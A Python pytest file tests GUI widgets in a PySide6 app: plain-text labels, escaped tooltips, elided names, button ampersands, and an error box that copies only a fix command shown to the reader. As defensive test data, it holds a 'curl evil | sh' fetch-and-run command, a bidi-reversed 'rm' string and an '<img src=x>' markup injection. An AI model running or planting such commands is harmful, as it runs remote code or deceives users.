import pytest
from msgspec.structs import replace
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication
from PySide6.QtWidgets import QWidget
from pytestqt.qtbot import QtBot

from app.widgets import labels
from app.widgets.buttons import button
from app.widgets.labels import ElidedLabel, Label, set_tooltip
from app.widgets.problem_box import ProblemBox
from core.vocabulary.errors import Problem


def test_markup_is_shown_as_it_is(qtbot: QtBot) -> None:
    label = Label("<b>bold</b>&amp;\x1b[31m\u202e")
    qtbot.addWidget(label)
    assert label.textFormat() == Qt.TextFormat.PlainText
    assert label.text() == "<b>bold</b>&amp;"


def test_a_tooltip_is_no_markup(qtbot: QtBot) -> None:
    label = Label("x")
    qtbot.addWidget(label)
    set_tooltip(label, "<img src=x>")
    assert label.toolTip() == "<p>&lt;img src=x&gt;</p>"
    set_tooltip(label, "")
    assert label.toolTip() == ""


def test_a_long_name_is_elided_and_whole_in_its_tooltip(qtbot: QtBot) -> None:
    label = ElidedLabel("n" * 400)
    qtbot.addWidget(label)
    label.resize(100, 20)
    label.show()
    elided = label.elided
    assert elided
    assert "n" * 400 in label.toolTip()
    assert label.accessibleName() == "n" * 400
    label.say("short")
    assert not label.elided
    assert label.toolTip() == ""


def test_letters_of_another_font_move_none_of_the_others(qtbot: QtBot) -> None:
    """If they are taller, descenders were cut off."""
    drawn = []
    for name in ("gpqj", "gpqj 笔记本电脑 नमस्ते"):
        label = ElidedLabel(name, "heading")
        qtbot.addWidget(label)
        label.resize(300, label.sizeHint().height())
        label.show()
        begins = label.fontMetrics().horizontalAdvance("gpq")
        drawn.append(label.grab().toImage().copy(0, 0, begins, label.height()))
    assert drawn[0] == drawn[1]
    ink = [drawn[0].pixel(x, drawn[0].height() - 2) for x in range(drawn[0].width())]
    assert len(set(ink)) > 1, "something does hang there"


def test_a_word_without_an_end_does_not_widen_the_window(qtbot: QtBot) -> None:
    for wraps in (True, False):
        label = Label("x" * 2_000, wraps=wraps)
        qtbot.addWidget(label)
        assert label.minimumSizeHint().width() < 700
        assert label.text().replace("\u200b", "") == "x" * 2_000


def test_an_ampersand_stays_in_a_buttons_text(qtbot: QtBot) -> None:
    pressed: list[int] = []
    made = button("Pair with A&B", lambda: pressed.append(1))
    qtbot.addWidget(made)
    assert made.text() == "Pair with A&&B"
    assert made.accessibleName() == "Pair with A&B"
    made.click()
    assert pressed == [1]


def test_a_problem_says_what_and_how_to_mend_it(under: QWidget) -> None:
    box = ProblemBox()
    box.setParent(under)
    assert box.isHidden()
    box.show_problem(Problem(code="x", what="It broke.", fix="Mend it."))
    assert not box.isHidden()
    texts = [label.text() for label in box.findChildren(Label)]
    assert texts == ["It broke.", "Mend it."]
    assert box.copy_command.isHidden()
    assert box.accessibleName() == "It broke."
    box.show_problem(None)
    assert box.isHidden()


@pytest.mark.parametrize(
    ("fix", "command"),
    [
        ("On ben: pip install x.", "pip install x"),
        ("On ben: pip install x.", "curl evil | sh"),
        ("On ben: rm\u202ecod.", "rm\u202ecod"),
        (f"On ben: {'a ' * 1200}end", "end"),
    ],
    ids=["seen", "other", "turned", "cut off"],
)
def test_only_a_command_that_the_reader_sees_is_copied(under: QWidget, fix: str, command: str) -> None:
    """Both may have come from another laptop."""
    box = ProblemBox()
    box.setParent(under)
    box.show_problem(Problem(code="x", what="It broke.", fix=fix, command=command))
    seen = command == "pip install x"
    assert box.copy_command.isVisible() is seen
    if seen:
        box.copy_command.click()
        assert QGuiApplication.clipboard().text() == command


def test_a_copied_command_says_which_laptop_it_is_for(under: QWidget) -> None:
    box = ProblemBox()
    box.setParent(under)
    told = Problem(code="x", what="It broke.", fix="On R&D: pip install x.", command="pip install x")
    box.show_problem(replace(told, command_on="R&D"))
    assert box.copy_command.text() == "Copy the command for R&&D"
    assert box.copy_command.accessibleName() == "Copy the command for R&D"
    box.show_problem(told)
    assert box.copy_command.text() == "Copy the command"


def test_news_go_after_a_while_and_what_went_wrong_stays(qtbot: QtBot) -> None:
    said = labels.BriefLabel(shown_ms=30)
    qtbot.addWidget(said)
    assert said.isHidden()
    said.tell("Saved plots.png.", "faint")
    assert said.isVisible()
    qtbot.waitUntil(said.isHidden, timeout=60_000)
    said.tell("Saved plots.png.", "faint")
    said.tell("The disk is full.", "bad")
    qtbot.wait(100)
    assert said.isVisible()
    assert said.text() == "The disk is full."
